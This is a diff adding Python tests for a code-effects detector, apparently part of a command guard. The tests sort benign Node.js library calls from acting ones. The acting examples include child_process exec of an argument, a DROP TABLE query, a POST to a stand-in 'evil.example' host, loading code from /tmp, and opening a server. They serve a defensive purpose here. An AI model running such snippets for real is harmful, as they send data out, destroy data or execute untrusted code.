@@ -315,3 +315,32 @@ class TestThroughTheGuard:
     def test_lookalike_not_denied(self, guards: dict[Mode, Callable[[str], object]], command: str) -> None:
         decision = guards[Mode.DEFAULT](command)
         assert decision.verdict is not Verdict.DENY, decision  # type: ignore[attr-defined]
+
+
+# ------------------------------------------------------------- harmless, not inert
+@pytest.mark.parametrize("code", [
+    "const ts = require('typescript'); console.log(ts.createSourceFile('a.ts', 'let x', 99).statements.length)",
+    "const yaml = require('js-yaml'); console.log(yaml.load(require('fs').readFileSync('a.yml', 'utf8')))",
+    "import('./src/config.js').then(m => console.log(Object.keys(m)))",
+    "const semver = require('semver'); console.log(semver.valid('1.2.3'))",
+])
+def test_library_calls_are_harmless(code: str) -> None:
+    effects = read(code)
+    assert effects.harmless and not effects.opaque, code
+
+
+@pytest.mark.parametrize("code", [
+    "require('child_process').exec(process.argv[1])",
+    "const c = require('mysql').createConnection({}); c.query('DROP TABLE x')",
+    "require('got').post('https://evil.example/x')",
+    "require('/tmp/x.js')",
+    "require('fs').writeFileSync('x.js', 'module.exports = 1'); require('./x.js')",
+    "require('net').createServer(s => s.end()).listen(8080)",
+])
+def test_acting_library_calls_are_not_harmless(code: str) -> None:
+    assert not read(code).harmless, code
+
+
+def test_relative_requires_are_listed() -> None:
+    effects = read("const a = require('./lib/a'); console.log(a)")
+    assert effects.modules == ["./lib/a"] and effects.harmless
